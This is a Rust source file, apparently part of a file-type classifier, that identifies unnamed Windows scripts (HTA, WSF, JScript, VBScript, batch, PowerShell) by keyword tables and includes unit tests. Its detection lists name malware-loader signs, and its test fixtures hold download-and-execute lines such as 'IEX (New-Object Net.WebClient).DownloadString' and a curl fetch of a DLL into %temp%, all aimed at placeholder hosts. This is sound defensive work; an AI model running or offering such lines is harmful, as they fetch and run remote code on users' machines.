//! Program text known by what stands in it, for scripts whose name is missing: one table of signs for each language, and
//! two places that ask. A text that may be a letter or a listing of another language must show more (`Place::Anywhere`)
//! than one that lies where no paper does, behind a shortcut or under a button of a notebook (`Place::Hidden`).

mod shape;

use super::Kind;
use crate::text::{decode, guess};

/// How much of a text is looked at.
const LOOKED_AT: usize = 16 << 10;
const LOOKED_AT_HIDDEN: usize = 64 << 10;

/// Where a text was found.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    Anywhere,
    Hidden,
}

/// The signs of a language. Everything is in lower case.
struct Language {
    kind: &'static str,
    /// How texts of it begin, where that alone is a sign; and how they may begin where they are hidden.
    begins: &'static [&'static str],
    opens: &'static [&'static str],
    /// How its lines begin.
    lines: &'static [&'static str],
    /// What nothing else says; what few others say; what many say.
    sure: &'static [&'static str],
    marks: &'static [&'static str],
    hints: &'static [&'static str],
    /// What no text of it says.
    foreign: &'static [&'static str],
    /// Whether that is enough for a text of any place. For one that is hidden, one rule holds for all.
    is_enough: fn(&Seen) -> bool,
}

#[rustfmt::skip]
const LANGUAGES: &[Language] = &[
    Language {
        kind: "hta", begins: &[], opens: &["<"], lines: &[],
        sure: &["<hta:application"], marks: &[],
        hints: &["<script", "createobject", "activexobject", "wscript.", "window.close", "self.close", "resizeto(", "execute(", "powershell", "vbscript"],
        foreign: &[], is_enough: |_| false,
    },
    Language {
        kind: "wsf", begins: &[], opens: &["<"], lines: &[],
        sure: &["<scriptlet", "<job>", "<job id=", "<registration", "<component"], marks: &[], hints: &[],
        foreign: &[], is_enough: |_| false,
    },
    Language {
        kind: "js",
        begins: &["var ", "function", "try", "/*", "//", "eval(", "(function", "!function", "this[", "new ", "const ", "let ", "if(", "if (", "[", "while", "for(", "for ("],
        opens: &[], lines: &[],
        sure: &["new activexobject(", "wscript.createobject(", "new enumerator("],
        marks: &["activexobject", "wscript.", "wsh.", "scripting.filesystemobject"],
        hints: &["fromcharcode", "eval(", "var ", "function ", "unescape(", "this[\"", "parseint(", ".split(\"\")", "return "],
        foreign: &["#include", "package ", "import ", "require(", "<?php", "createobject(", "dim "],
        is_enough: |seen| seen.is_c_like() && seen.begins() && (seen.has(seen.language.marks) || seen.evaluates()),
    },
    Language {
        kind: "vbs", begins: &[], opens: &[],
        lines: &["dim ", "set ", "on error resume next", "function ", "sub ", "private ", "public ", "execute", "const "],
        sure: &["createobject(\"wscript.shell\")", "createobject(\"shell.application\")", "getobject(\"winmgmts:", "executeglobal"],
        marks: &["createobject(", "getobject("],
        hints: &["on error resume next", "wscript.sleep", "wscript.quit", "wscript.shell", "\ndim ", "\nset ", "\nend sub", "\nend function", "chr(", "execute(", "strreverse(", "wscript.scriptfullname"],
        foreign: &["function(", "var ", "};", "#include", "\nimport ", "\npackage ", "echo off", "$", "attribute vb_"],
        is_enough: |seen| (seen.has(seen.language.marks) || seen.has(&["wscript.", "executeglobal"])) && seen.lines() >= 2,
    },
    Language {
        kind: "bat",
        begins: &["@echo off", "@echo  off", "@set ", "@setlocal", "@powershell", "@cmd", "@start ", "@%", "@if ", "cmd /c ", "cmd.exe /c ", "powershell -", "powershell.exe -", "echo off\n"],
        opens: &["@echo off", "@echo ", "echo off", "@cls", "cls\n", "rem ", "::", "@setlocal", "setlocal", "@set ", "set ", "start ", "@start ", "cmd ", "cmd.exe", "powershell", "mshta ", "curl ", "certutil ", "copy ", "xcopy ", "title ", "@powershell", "@cmd", "mode con", "@if ", "if not ", "rundll32", "@%", "%"],
        lines: &["set ", "@set "],
        sure: &["@echo off", "\ngoto ", "%~dp0", "%~f0", "%~nx0", "\nexit /b", "setlocal enabledelayedexpansion", "powershell -", "powershell.exe -", "cmd /c ", "cmd.exe /c ", "start /min", "start /b"],
        marks: &[],
        hints: &["%temp%", "%appdata%", "%programdata%", "%userprofile%", ":~", "\nset ", "&&set ", "rundll32 ", "rundll32.exe ", "regsvr32 ", "mshta ", "curl ", "certutil ", "\ndel ", "\nexit", "\necho ", "\nstart ", "\ncopy ", "\nif exist", " > nul", ">nul", "timeout /t"],
        foreign: &[],
        is_enough: |seen| seen.begins() || seen.first_line().contains("&@cls&@set") || seen.lines() >= 3 && seen.count(":~") >= 10,
    },
    Language {
        kind: "ps1", begins: &[], opens: &[], lines: &[],
        sure: &["frombase64string", "invoke-expression", "new-object net.webclient", "new-object system.net.webclient", "start-bitstransfer", "[reflection.assembly]::load", "invoke-webrequest", "add-mppreference"],
        marks: &["new-object ", "iex ", "iex(", "|iex", "| iex", "[system.", "[convert]::", "[text.encoding]", "-join", "start-process", "$env:", "set-executionpolicy", "[char[]]", "[byte[]]", "write-host"],
        hints: &["param(", "function ", "$null", "get-content", ".downloadstring(", ".downloadfile(", "foreach(", "foreach ("],
        foreign: &["<?php", "#!/", "#include", "function(", "dim ", "echo off"],
        is_enough: |seen| seen.told() >= 2 && (seen.assigns() || seen.has(&["iex"])),
    },
];

/// The kinds that each place asks for, in order: the more telling languages first.
const HIDDEN: &[&str] = &["hta", "wsf", "ps1", "bat", "vbs", "js"];

/// Whether a text of any place is of that language.
pub(super) fn is_js(bytes: &[u8]) -> bool {
    is("js", bytes) || shape::has("js", bytes)
}

/// See [`is_js`].
pub(super) fn is_vbs(bytes: &[u8]) -> bool {
    is("vbs", bytes) || shape::has("vbs", bytes)
}

/// See [`is_js`].
pub(super) fn is_bat(bytes: &[u8]) -> bool {
    is("bat", bytes) || shape::has("bat", bytes)
}

/// See [`is_js`].
pub(super) fn is_ps1(bytes: &[u8]) -> bool {
    is("ps1", bytes) || shape::has("ps1", bytes)
}

impl Kind {
    /// Whether the words of a text tell its kind so surely that it counts as a script where no name says so. Program text
    /// that has only the shape of one is read as one; it may be a listing.
    pub fn is_told(&self, bytes: &[u8]) -> bool {
        !LANGUAGES.iter().any(|language| language.kind == self.id && !matches!(self.id, "hta" | "wsf"))
            || is(self.id, bytes)
    }

    /// The kind of script that a text is by its words alone, whatever its name, where no paper lies.
    pub fn of_script(bytes: &[u8]) -> Option<&'static Self> {
        let text = text(bytes, Place::Hidden)?;
        let kind = if text.starts_with("#@~^") {
            Some("vbe")
        } else {
            HIDDEN.iter().copied().find(|kind| fits(kind, &text, Place::Hidden))
        };
        kind.and_then(Self::named)
    }
}

fn is(kind: &str, bytes: &[u8]) -> bool {
    text(bytes, Place::Anywhere).is_some_and(|text| fits(kind, &text, Place::Anywhere))
}

/// The one answer: whether a text shows enough of a language for its place.
fn fits(kind: &str, text: &str, place: Place) -> bool {
    let Some(language) = LANGUAGES.iter().find(|language| language.kind == kind) else { return false };
    let seen = Seen { language, text };
    match place {
        Place::Anywhere => (language.is_enough)(&seen) && !seen.has(language.foreign) && !is_prose(text),
        Place::Hidden => seen.is_enough_hidden(),
    }
}

/// A text beside the signs of a language.
struct Seen<'a> {
    language: &'a Language,
    text: &'a str,
}

impl<'a> Seen<'a> {
    fn has(&self, words: &[&str]) -> bool {
        words.iter().any(|word| self.text.contains(word))
    }

    fn count(&self, word: &str) -> usize {
        self.text.matches(word).count()
    }

    fn begins(&self) -> bool {
        self.language.begins.iter().any(|word| self.text.starts_with(word))
    }

    fn first_line(&self) -> &'a str {
        self.text.lines().next().unwrap_or_default()
    }

    /// Lines, and statements behind a colon, that begin as those of the language do; three are enough to know.
    fn lines(&self) -> usize {
        let statements = self.text.lines().flat_map(|line| line.split(':').map(str::trim_start));
        let told = statements.filter(|line| self.language.lines.iter().any(|start| line.starts_with(start)));
        told.take(3).count()
    }

    /// How many different words of the language are said.
    fn told(&self) -> usize {
        self.language.sure.iter().chain(self.language.marks).filter(|word| self.text.contains(**word)).count()
    }

    fn is_c_like(&self) -> bool {
        self.has(&[";"]) && self.has(&["("]) && self.has(&["=", "function"])
    }

    /// Whether it runs text that it decodes.
    fn evaluates(&self) -> bool {
        self.has(&["eval("]) && self.has(&["fromcharcode", "unescape(", "\\x", "charcodeat"])
    }

    /// Whether a variable of PowerShell is set.
    fn assigns(&self) -> bool {
        Self::sets_variables(self.text)
    }

    /// Whether a text sets a variable of PowerShell.
    fn sets_variables(text: &str) -> bool {
        text.lines().flat_map(|line| line.split(';')).any(|piece| assigns(piece.trim_start()))
    }

    /// One sure word is enough, or two different others, where the text opens as the language may.
    fn is_enough_hidden(&self) -> bool {
        let language = self.language;
        let opens =
            language.opens.is_empty() || language.opens.iter().any(|start| self.text.starts_with(start));
        let others = || {
            let words = language.marks.iter().chain(language.hints);
            words.filter(|word| self.text.contains(**word)).count()
        };
        opens && (self.has(language.sure) || others() >= 2) && self.is_no_letter(others)
    }

    /// Letters and minutes mention commands; a language that may begin anyhow needs a third sign where lines are long
    /// sentences.
    fn is_no_letter(&self, others: impl Fn() -> usize) -> bool {
        let sentences = self.count(". ") + self.count("。");
        let code = self.text.matches([';', '=', '(', '{', '$', '%']).count();
        !self.language.opens.is_empty() || code > sentences * 4 && others() + code > 3
    }
}

/// `$name = …`
fn assigns(piece: &str) -> bool {
    let Some(rest) = piece.strip_prefix('$') else { return false };
    let end = rest
        .find(|c: char| !(c.is_alphanumeric() || matches!(c, '_' | ':' | '{' | '}')))
        .unwrap_or(rest.len());
    end > 0 && rest.get(end..).is_some_and(|after| after.trim_start().starts_with('='))
}

/// The beginning of a text in lower case, line ends as one; none if it is no text, or markup where a name or an element
/// would tell. What lies hidden is rare and decoded well; every text of any place comes by, and gets a character a byte.
fn text(bytes: &[u8], place: Place) -> Option<String> {
    let is_wide = bytes.starts_with(b"\xff\xfe") || place == Place::Hidden && bytes.get(1) == Some(&0);
    if !is_wide && !super::is_text(bytes) {
        return None;
    }
    let lower = match place {
        Place::Hidden if is_wide => decode("utf-16", super::head(bytes, LOOKED_AT_HIDDEN)).to_lowercase(),
        Place::Hidden => guess(super::head(bytes, LOOKED_AT_HIDDEN)).to_lowercase(),
        Place::Anywhere => narrow(super::head(bytes, LOOKED_AT), is_wide),
    };
    let lower = lower.replace('\r', "");
    let start = lower.trim_start_matches(|c: char| matches!(c, '?' | '\u{feff}') || c.is_whitespace());
    let is_markup = place == Place::Anywhere && start.starts_with('<');
    (!start.is_empty() && !is_markup).then(|| start.to_string())
}

/// A character a byte, a question mark for what is not ASCII.
fn narrow(head: &[u8], is_wide: bool) -> String {
    let bytes = head.iter().filter(|byte| !(is_wide && (**byte == 0 || **byte >= 0xfe)));
    bytes.map(|byte| if byte.is_ascii() { char::from(byte.to_ascii_lowercase()) } else { '?' }).collect()
}

/// Whether a text is written for people and only quotes a command: one line in three is a sentence.
fn is_prose(text: &str) -> bool {
    let is_comment =
        |line: &str| ["#", "'", "//", "*", "::", "rem "].iter().any(|mark| line.starts_with(mark));
    let is_sentence = |line: &str| {
        let foreign = line.bytes().filter(|byte| *byte == b'?').count();
        let has_code = line.contains(['=', '(', '{', ';', '$', '|', '%', '\\']);
        let words = line.split_whitespace().count();
        let ends = line.ends_with(['.', ',']) && words >= 3;
        foreign * 3 > line.len() || (!has_code && (words >= 6 || ends))
    };
    let lines = text.lines().map(str::trim).filter(|line| !line.is_empty() && !is_comment(line)).take(200);
    let (sentences, all) =
        lines.fold((0, 0), |(sentences, all), line| (sentences + usize::from(is_sentence(line)), all + 1));
    sentences * 3 >= all.max(1)
}

#[cfg(test)]
mod tests {
    use crate::kind::Kind;

    #[test]
    fn letters_that_quote_a_command_are_no_scripts() {
        for letter in [
            "Dear all,\r\nattackers send lines like this one to run a program:\r\n\r\nIEX (New-Object Net.WebClient).DownloadString('https://a.example')\r\n\r\nPlease never paste them anywhere.\r\n",
            "各位\r\n次のような命令にご注意ください。\r\nIEX (New-Object Net.WebClient).DownloadString('https://a.example')\r\n実行しないでください。\r\n",
            "var is short for variable in this language; see below.\r\nWe use WScript.Echo(x) in the course, and eval(y) is not allowed there at all.\r\nPlease read the pages before the lesson on Monday.\r\n",
        ] {
            assert_eq!(Kind::of("a.txt", letter.as_bytes()).id, "text", "{letter}");
        }
    }

    #[test]
    fn scripts_without_a_name_are_known() {
        let rows = [
            ("Dim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Run x", "vbs"),
            ("On Error Resume Next: Set a = GetObject(\"x\")", "vbs"),
            ("var a = new ActiveXObject('WScript.Shell'); a.Run('x');", "js"),
            ("eval(unescape('%61')); var a = 1;", "js"),
            ("@echo off\r\nset a=1\r\n", "bat"),
            ("$a = New-Object Net.WebClient; iex $a.DownloadString('x')", "ps1"),
            ("\u{feff}$b = [Convert]::FromBase64String('x'); $c = [Text.Encoding]::UTF8", "ps1"),
        ];
        for (text, want) in rows {
            assert_eq!(Kind::of("", text.as_bytes()).id, want, "{text}");
            assert_eq!(Kind::of("a.txt", text.as_bytes()).id, want, "{text}");
        }
    }

    #[test]
    fn letters_and_other_texts_are_not_scripts() {
        for text in [
            "Dear all,\nplease set the value with CreateObject(x).\nDim light.",
            "function a() { return 1; }\nvar x = a();",
            "import os\nx = eval('1') ; y = (1)",
            "Echo off is what you write first.",
            "package a.b;\nimport c.D;\npublic class E {\npublic E() {\nprivate X o = cursor.getObject();\n",
            "The price is $a = 3 and [system. that is all",
            "{\"a\": \"eval(unescape(1))\"}",
        ] {
            assert_eq!(Kind::of("", text.as_bytes()).id, "text", "{text}");
        }
        assert_eq!(Kind::of("a.js", b"@echo off").id, "js");
        assert_eq!(Kind::of("a.csv", b"@echo off").id, "csv");
        assert_eq!(Kind::of("a.hta", b"<html><script>x</script>").id, "hta");
        assert_eq!(Kind::of("a.jse", b"var a = 1;").id, "vbe");
    }

    #[test]
    fn pages_are_known_however_they_begin() {
        for (name, bytes) in [
            ("a.html", &b"Hello <b>you</b>"[..]),
            ("", b"<div><form action=x>"),
            ("", b"<?xml version=\"1.0\"?><!DOCTYPE html><html xmlns=\"x\">"),
            ("", b"\xff\xfe<\0h\0t\0m\0l\0>\0"),
            ("", b"\n<!-- saved --><title>x</title>"),
        ] {
            assert_eq!(Kind::of(name, bytes).id, "html", "{name} {bytes:?}");
        }
        assert_eq!(Kind::of("a.html", b"\0\x01\x02").id, "data");
        assert_eq!(Kind::of("", b"<tag>no page").id, "text");
    }

    #[test]
    fn hidden_scripts_are_known() {
        let rows: &[(&[u8], &str)] = &[
            (b"@echo off\r\nstart notepad\r\n", "bat"),
            (b"  @ECHO OFF\r\n%~dp0x.exe", "bat"),
            (b"set a=pow\r\nset b=er\r\n%a%%b% x\r\nexit\r\n", "bat"),
            (b"rem x\r\ncurl http://a.example/x -o %temp%\\x.dll\r\n", "bat"),
            (b"Dim a\r\nSet a = CreateObject(\"WScript.Shell\")\r\na.Run \"calc\"", "vbs"),
            (b"On Error Resume Next\r\nDim x\r\nx = Chr(67) & Chr(68)\r\nExecute(x)\r\n", "vbs"),
            (b"var a = new ActiveXObject('WScript.Shell'); a.Run('calc');", "js"),
            (b"<html><head><script language=\"vbscript\">CreateObject(\"x\")</script>", "hta"),
            (b"<HTA:APPLICATION icon=\"#\" />", "hta"),
            (b"<?xml version=\"1.0\"?><job id=\"1\"><script language=\"JScript\">x</script></job>", "wsf"),
            (b"$a = New-Object Net.WebClient; $a.DownloadFile('http://a.example/', \"$env:TEMP\\x\")", "ps1"),
            (b"#@~^AAAA==", "vbe"),
        ];
        for (bytes, want) in rows {
            let got = Kind::of_script(bytes).map(|kind| kind.id);
            assert_eq!(got, Some(*want), "{}", String::from_utf8_lossy(bytes));
            let wide: Vec<u8> =
                String::from_utf8_lossy(bytes).encode_utf16().flat_map(u16::to_le_bytes).collect();
            assert_eq!(Kind::of_script(&wide).map(|kind| kind.id), got);
        }
    }

    #[test]
    fn papers_and_data_are_no_scripts() {
        for paper in [
            "Dear all,\r\nplease start the program and set the date. We copy the files tomorrow.\r\n",
            "手順書\r\nPowerShell を管理者で起動し、Start-Process を実行してください。結果は Write-Host で表示されます。",
            "a,b,c\r\n1,2,3\r\n",
            "{\"a\": 1, \"b\": [1,2,3]}",
            "<html><head><title>x</title></head><body>text</body></html>",
            "<?xml version=\"1.0\"?><invoice><total>5</total></invoice>",
            "Start of the meeting: 10:00\r\nEnd: 11:00\r\n",
            "SELECT a FROM b WHERE c = 1;",
            "The function returns a value. We evaluate (see var 1). Please return the form.",
            "",
        ] {
            assert_eq!(Kind::of_script(paper.as_bytes()), None, "{paper}");
        }
        assert_eq!(Kind::of_script(&[0; 500]), None);
        assert_eq!(Kind::of_script(b"\x01\x02\x03@echo off"), None);
    }
}
